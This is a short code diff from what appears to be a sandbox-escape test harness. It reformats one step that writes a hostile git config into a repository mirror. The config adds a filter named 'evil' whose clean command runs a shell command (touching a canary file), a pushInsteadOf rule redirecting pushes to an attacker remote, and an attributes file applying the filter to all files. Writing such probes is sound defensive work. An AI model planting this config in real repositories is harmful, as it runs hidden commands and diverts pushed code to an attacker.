@@ -87,7 +87,10 @@ attempt("list mirrors", () => readdirSync(path.join(workDir, "mirrors")).join(",
 attempt("write a mirror's config", () => {
   const mirrors = path.join(workDir, "mirrors");
   const target = path.join(mirrors, env.HOSTILE_MIRROR_NAME ?? "x.git");
-  appendFileSync(path.join(target, "config"), `[filter "evil"]\n\tclean = touch ${drop}/mirror-filter-ran\n[url "${env.HOSTILE_EVIL_REMOTE}"]\n\tpushInsteadOf = /\n`);
+  appendFileSync(
+    path.join(target, "config"),
+    `[filter "evil"]\n\tclean = touch ${drop}/mirror-filter-ran\n[url "${env.HOSTILE_EVIL_REMOTE}"]\n\tpushInsteadOf = /\n`,
+  );
   writeFileSync(path.join(target, "info", "attributes"), "* filter=evil\n");
   return target;
 });
